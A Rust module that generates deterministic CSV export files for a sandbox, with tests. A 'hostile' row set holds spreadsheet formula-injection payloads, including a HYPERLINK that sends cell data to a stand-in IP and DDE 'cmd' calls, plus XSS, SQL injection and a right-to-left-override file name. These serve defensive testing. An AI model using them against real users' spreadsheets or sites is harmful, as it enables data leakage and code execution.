//! Deterministic CSV exports, generated as a stream of chunks.
//!
//! RFC 4180: a header row, CRLF line ends, fields quoted when they hold a comma, a double quote
//! (escaped as `""`), CR or LF. The rows deliberately include such fields, non-ASCII names
//! (Latin diacritics, CJK, Arabic, emoji) and, for the hostile account, spreadsheet formula and
//! HTML payloads. The same [`CsvSpec`] always yields the same bytes (a seeded LCG, no `rand`),
//! and a 50 MB export is produced 64 KiB at a time instead of being built in memory. The export
//! kinds are the client's own [`ExportKind`]; what the sandbox adds (columns, file names) are
//! functions of it here.

use std::fmt::Write as _;

use access_creator_api::ExportKind;
use bytes::Bytes;

/// The name of a downloaded export: `emails.csv`, `supporters.csv`, `rewards.csv`.
pub fn file_name(kind: ExportKind) -> String {
    format!("{}.csv", kind.as_str())
}

/// Row count of an export unless a test session asks for another.
pub const DEFAULT_ROWS: u64 = 25;

/// Target size of one streamed chunk.
const CHUNK_SIZE: usize = 64 * 1024;

/// What to generate: the export kind, how many data rows, the seed, and whether to mix in
/// hostile payloads.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct CsvSpec {
    /// Decides the columns.
    pub kind: ExportKind,
    /// Data rows after the header row.
    pub rows: u64,
    /// Seeds the generator; the same seed gives the same file.
    pub seed: u64,
    /// Whether the curated rows include formula-injection and HTML payloads.
    pub hostile: bool,
}

impl CsvSpec {
    /// The file as an iterator of chunks of about 64 KiB.
    pub fn chunks(self) -> Chunks {
        Chunks {
            spec: self,
            curated: curated(self.hostile),
            rng: Lcg::new(self.seed),
            row: 0,
            header_done: false,
            scratch: String::new(),
        }
    }

    /// The file's size in bytes (generates it once without keeping it).
    pub fn content_length(self) -> u64 {
        self.chunks().map(|chunk| chunk.len() as u64).sum()
    }

    /// The file in one piece; for small files and tests.
    pub fn to_vec(self) -> Vec<u8> {
        self.chunks().flat_map(|chunk| chunk.to_vec()).collect()
    }
}

/// The header row of each export kind.
pub fn header(kind: ExportKind) -> &'static [&'static str] {
    match kind {
        ExportKind::Emails => &["Email", "Pubkey", "Username", "Subscribed at"],
        ExportKind::Supporters => &[
            "Pubkey",
            "Username",
            "Email",
            "Locked ACS",
            "Locked since",
            "Note",
        ],
        ExportKind::Rewards => &["Date", "Pubkey", "Username", "Amount ACS", "Type"],
    }
}

/// Iterator over the chunks of one CSV file. See [`CsvSpec::chunks`].
pub struct Chunks {
    spec: CsvSpec,
    curated: Vec<(&'static str, &'static str, &'static str)>,
    rng: Lcg,
    row: u64,
    header_done: bool,
    scratch: String,
}

impl Iterator for Chunks {
    type Item = Bytes;

    fn next(&mut self) -> Option<Bytes> {
        let mut buf = Vec::with_capacity(CHUNK_SIZE + 1024);
        if !self.header_done {
            self.header_done = true;
            write_record(&mut buf, header(self.spec.kind).iter().copied());
        }
        while buf.len() < CHUNK_SIZE && self.row < self.spec.rows {
            self.write_row(&mut buf);
            self.row += 1;
        }
        (!buf.is_empty()).then(|| Bytes::from(buf))
    }
}

impl Chunks {
    fn write_row(&mut self, buf: &mut Vec<u8>) {
        let person = self.person();
        let pubkey = self.pubkey();
        let timestamp = BASE_TIMESTAMP + self.rng.below(SPAN_SECONDS);
        match self.spec.kind {
            ExportKind::Emails => {
                let subscribed = rfc3339(timestamp);
                write_record(
                    buf,
                    [person.email.as_str(), &pubkey, &person.name, &subscribed],
                );
            }
            ExportKind::Supporters => {
                let locked = self.acs_amount(2_000_000_000_000);
                let since = rfc3339(timestamp);
                write_record(
                    buf,
                    [
                        pubkey.as_str(),
                        &person.name,
                        &person.email,
                        &locked,
                        &since,
                        &person.note,
                    ],
                );
            }
            ExportKind::Rewards => {
                let amount = self.acs_amount(500_000_000);
                let date = rfc3339(timestamp)[..10].to_owned();
                let kind = REWARD_TYPES[self.rng.below(REWARD_TYPES.len() as u64) as usize];
                write_record(buf, [date.as_str(), &pubkey, &person.name, &amount, kind]);
            }
        }
    }

    /// Curated people (with the awkward strings) on every other row at the start, so even a
    /// 25-row file holds all of them, and then on every 11th row; generated people elsewhere.
    fn person(&mut self) -> Person {
        let total = self.curated.len() as u64;
        let pick = if self.row < 2 * total && self.row % 2 == 0 {
            Some(self.row / 2)
        } else if self.row % 11 == 0 {
            Some((self.row / 11) % total)
        } else {
            None
        };
        if let Some(index) = pick {
            let (name, email, note) = self.curated[index as usize];
            return Person {
                name: name.into(),
                email: email.into(),
                note: note.into(),
            };
        }
        let first = FIRST_NAMES[self.rng.below(FIRST_NAMES.len() as u64) as usize];
        let last = LAST_NAMES[self.rng.below(LAST_NAMES.len() as u64) as usize];
        let note = NOTES[self.rng.below(NOTES.len() as u64) as usize];
        let number = self.row;
        Person {
            name: format!("{first} {last}"),
            email: format!(
                "{}.{}{number}@example.com",
                first.to_ascii_lowercase(),
                last.to_ascii_lowercase()
            ),
            note: note.into(),
        }
    }

    /// A 44-character base58 string, shaped like a Solana address.
    fn pubkey(&mut self) -> String {
        (0..44)
            .map(|_| BASE58[self.rng.below(58) as usize] as char)
            .collect()
    }

    /// An ACS amount below `max_micro` millionths, with 6 decimals (`1234.567890`).
    fn acs_amount(&mut self, max_micro: u64) -> String {
        let micro = self.rng.below(max_micro);
        self.scratch.clear();
        let _ = write!(
            self.scratch,
            "{}.{:06}",
            micro / 1_000_000,
            micro % 1_000_000
        );
        self.scratch.clone()
    }
}

struct Person {
    name: String,
    email: String,
    note: String,
}

/// Appends one record: fields separated by `,`, quoted where needed, ended by CRLF.
fn write_record<'a>(buf: &mut Vec<u8>, fields: impl IntoIterator<Item = &'a str>) {
    for (i, field) in fields.into_iter().enumerate() {
        if i > 0 {
            buf.push(b',');
        }
        write_field(buf, field);
    }
    buf.extend_from_slice(b"\r\n");
}

/// Appends one field, quoted if it holds `,` `"` CR or LF, with `"` doubled inside quotes.
fn write_field(buf: &mut Vec<u8>, field: &str) {
    if field.contains([',', '"', '\r', '\n']) {
        buf.push(b'"');
        for part in field.split_inclusive('"') {
            buf.extend_from_slice(part.as_bytes());
            if part.ends_with('"') {
                buf.push(b'"');
            }
        }
        buf.push(b'"');
    } else {
        buf.extend_from_slice(field.as_bytes());
    }
}

/// A 64-bit linear congruential generator (Knuth's MMIX constants). Good enough for fake rows.
struct Lcg(u64);

impl Lcg {
    fn new(seed: u64) -> Self {
        Lcg(seed ^ 0x9E37_79B9_7F4A_7C15)
    }

    /// A number in `0..bound` (`bound` > 0).
    fn below(&mut self, bound: u64) -> u64 {
        self.0 = self
            .0
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        (self.0 >> 33) % bound
    }
}

/// 2023-06-01T00:00:00Z; generated dates fall in the following ~600 days.
const BASE_TIMESTAMP: u64 = 1_685_577_600;
const SPAN_SECONDS: u64 = 600 * 86_400;

/// `seconds` since the Unix epoch as `YYYY-MM-DDTHH:MM:SSZ`.
fn rfc3339(seconds: u64) -> String {
    let days = seconds / 86_400;
    let rest = seconds % 86_400;
    let (year, month, day) = civil_from_days(days);
    format!(
        "{year:04}-{month:02}-{day:02}T{:02}:{:02}:{:02}Z",
        rest / 3600,
        rest % 3600 / 60,
        rest % 60
    )
}

/// Days since 1970-01-01 → (year, month, day) in the proleptic Gregorian calendar
/// (Howard Hinnant's `civil_from_days`, for non-negative days).
pub(crate) fn civil_from_days(days: u64) -> (u64, u64, u64) {
    let z = days + 719_468;
    let era = z / 146_097;
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = doy - (153 * mp + 2) / 5 + 1;
    let month = if mp < 10 { mp + 3 } else { mp - 9 };
    let year = yoe + era * 400 + u64::from(month <= 2);
    (year, month, day)
}

const BASE58: &[u8] = b"123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";

/// People whose strings exercise CSV quoting and Unicode: (name, e-mail, note).
const CURATED: &[(&str, &str, &str)] = &[
    (
        "Zoë Ångström",
        "zoe.angstrom@example.se",
        "Tack! Keep the drafts coming.",
    ),
    ("李雷", "li.lei@example.cn", "在学习 Solana，谢谢"),
    (
        "Jürgen \"JJ\" Müller, PhD",
        "jj.mueller@example.de",
        "Loved the \"PDA\" article, especially part 2",
    ),
    (
        "Łukasz Żółć",
        "lukasz.zolc@example.pl",
        "Line one\nLine two, after a line break",
    ),
    ("Amara Okafor 🚀", "amara.okafor@example.ng", "🚀🚀🚀"),
    (
        "Mary-Jane O'Neil\nVIP since 2023",
        "mj.oneil@example.ie",
        "CRLF inside a field:\r\nsecond line",
    ),
    ("Ana María Núñez", "ana.nunez@example.es", ""),
    ("محمد علي", "m.ali@example.eg", "شكراً جزيلاً"),
    (
        "Sasha \"night owl\" Ivanova, MSc",
        "sasha.ivanova@example.org",
        "Quotes \"inside\", commas, and\nline breaks, all at once",
    ),
];

/// Extra rows of the hostile account: spreadsheet formula injection and HTML.
const HOSTILE: &[(&str, &str, &str)] = &[
    (
        "=HYPERLINK(\"http://203.0.113.7/?leak=\"&A1,\"Claim reward\")",
        "formula@example.com",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ),
    (
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>@example.com",
        "<img src=x onerror=alert(1)>",
    ),
    ("-2+3+cmd|' /C calc'!A0", "minus@example.com", "+SUM(1,2)"),
    (
        "Robert'); DROP TABLE supporters;--",
        "bobby@example.com",
        "\u{202E}fdp.exe",
    ),
];

fn curated(hostile: bool) -> Vec<(&'static str, &'static str, &'static str)> {
    let extra: &[_] = if hostile { HOSTILE } else { &[] };
    extra.iter().chain(CURATED).copied().collect()
}

const FIRST_NAMES: &[&str] = &[
    "Alice", "Bob", "Carol", "Dave", "Erin", "Frank", "Grace", "Heidi", "Ivan", "Judy", "Mallory",
    "Niaj", "Olivia", "Peggy", "Rupert", "Sybil", "Trent", "Victor", "Walter", "Yusuf",
];

const LAST_NAMES: &[&str] = &[
    "Anderson", "Brown", "Chen", "Diaz", "Evans", "Fischer", "Garcia", "Hughes", "Ito", "Johnson",
    "Kowalski", "Lopez", "Martin", "Nguyen", "Okafor", "Patel", "Rossi", "Smith", "Tanaka",
    "Weber",
];

const NOTES: &[&str] = &[
    "",
    "",
    "Great work",
    "Here for the Anchor series",
    "Thanks, and keep going",
    "Found you via the \"Solana tooling\" thread",
    "Monthly Q&A please!",
];

const REWARD_TYPES: &[&str] = &[
    "Supporter reward",
    "Creator reward",
    "Bonus, early supporter",
    "Referral \"friends\" bonus",
];

#[cfg(test)]
mod tests {
    use super::*;

    fn spec(kind: ExportKind, rows: u64) -> CsvSpec {
        CsvSpec {
            kind,
            rows,
            seed: 7,
            hostile: false,
        }
    }

    #[test]
    fn quotes_fields_that_need_it() {
        let mut buf = Vec::new();
        write_record(&mut buf, ["plain", "a,b", "say \"hi\"", "two\nlines", ""]);
        assert_eq!(
            String::from_utf8(buf).unwrap(),
            "plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",\r\n"
        );
    }

    /// FNV-1a, 64 bits: a fingerprint of a generated file.
    fn fnv1a(bytes: &[u8]) -> u64 {
        bytes.iter().fold(0xcbf2_9ce4_8422_2325, |hash, byte| {
            (hash ^ u64::from(*byte)).wrapping_mul(0x0100_0000_01b3)
        })
    }

    #[test]
    fn the_same_spec_gives_the_same_bytes_on_every_run() {
        // Pinned, not recomputed: a generator that drew on a clock, an address or a hash
        // map's order would pass a comparison of two files made by the same process, and fail
        // this. (If the generator changes on purpose, the new values go here.)
        let small = String::from_utf8(spec(ExportKind::Supporters, 2).to_vec()).unwrap();
        assert_eq!(
            small,
            "Pubkey,Username,Email,Locked ACS,Locked since,Note\r\n\
             RQ1rx8iQGLvdbbc5kyyetHhJCrahwYRmtD5iMrGNgWFU,Zoë Ångström,zoe.angstrom@example.se,\
             800.344531,2024-02-16T00:42:41Z,Tack! Keep the drafts coming.\r\n\
             1jbeUXZ4B3ci8YcZM2M1hwaiA4kRJf6eeaevRZxDM8S4,Carol Johnson,carol.johnson1@example.com,\
             576.129532,2023-12-16T15:30:07Z,Great work\r\n"
        );
        assert_eq!(
            fnv1a(&spec(ExportKind::Supporters, 20_000).to_vec()),
            11_024_151_226_896_532_748
        );
    }

    #[test]
    fn dates_are_correct() {
        assert_eq!(rfc3339(0), "1970-01-01T00:00:00Z");
        assert_eq!(rfc3339(BASE_TIMESTAMP), "2023-06-01T00:00:00Z");
        assert_eq!(rfc3339(1_709_210_096), "2024-02-29T12:34:56Z");
    }

    #[test]
    fn default_files_hold_every_awkward_string() {
        for kind in ExportKind::ALL {
            for hostile in [false, true] {
                let text = String::from_utf8(
                    CsvSpec {
                        hostile,
                        ..spec(kind, DEFAULT_ROWS)
                    }
                    .to_vec(),
                )
                .unwrap();
                for (name, _, _) in curated(hostile) {
                    let mut quoted = Vec::new();
                    write_field(&mut quoted, name);
                    assert!(
                        text.contains(std::str::from_utf8(&quoted).unwrap()),
                        "{kind:?} lacks {name}"
                    );
                }
                assert!(text.starts_with(&header(kind).join(",")));
                assert!(text.ends_with("\r\n"));
            }
        }
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(64))]

        /// Any export parses, strictly, into the header and `rows` records of as many fields,
        /// and every curated string comes back intact once there are rows enough for all.
        #[test]
        fn every_file_is_strict_rfc_4180_with_the_rows_asked(
            kind in proptest::sample::select(ExportKind::ALL.to_vec()),
            rows in 0u64..400,
            seed: u64,
            hostile: bool,
        ) {
            let spec = CsvSpec { kind, rows, seed, hostile };
            let bytes = spec.to_vec();
            proptest::prop_assert_eq!(bytes.len() as u64, spec.content_length());
            let text = String::from_utf8(bytes).unwrap();
            let records = crate::rfc4180::parse(&text);
            proptest::prop_assert_eq!(records.len() as u64, rows + 1);
            proptest::prop_assert_eq!(&records[0], &header(kind).iter().map(|h| (*h).to_owned()).collect::<Vec<_>>());
            proptest::prop_assert!(records.iter().all(|r| r.len() == header(kind).len()));
            let curated = curated(hostile);
            if rows >= 2 * curated.len() as u64 {
                let name_column = header(kind).iter().position(|h| *h == "Username").unwrap();
                let names: Vec<&str> = records.iter().map(|r| r[name_column].as_str()).collect();
                for (name, _, _) in curated {
                    proptest::prop_assert!(names.contains(&name), "{:?} lacks {}", kind, name);
                }
            }
        }
    }

    #[test]
    fn chunking_is_deterministic_and_bounded() {
        let big = spec(ExportKind::Supporters, 20_000);
        let chunks: Vec<Bytes> = big.chunks().collect();
        assert!(chunks.len() > 1);
        assert!(chunks.iter().all(|c| c.len() < CHUNK_SIZE + 1024));
        assert_eq!(
            big.content_length(),
            chunks.iter().map(|c| c.len() as u64).sum::<u64>()
        );
        assert_ne!(big.to_vec(), CsvSpec { seed: 8, ..big }.to_vec());
        assert_eq!(
            spec(ExportKind::Rewards, 0).to_vec(),
            b"Date,Pubkey,Username,Amount ACS,Type\r\n"
        );
    }
}
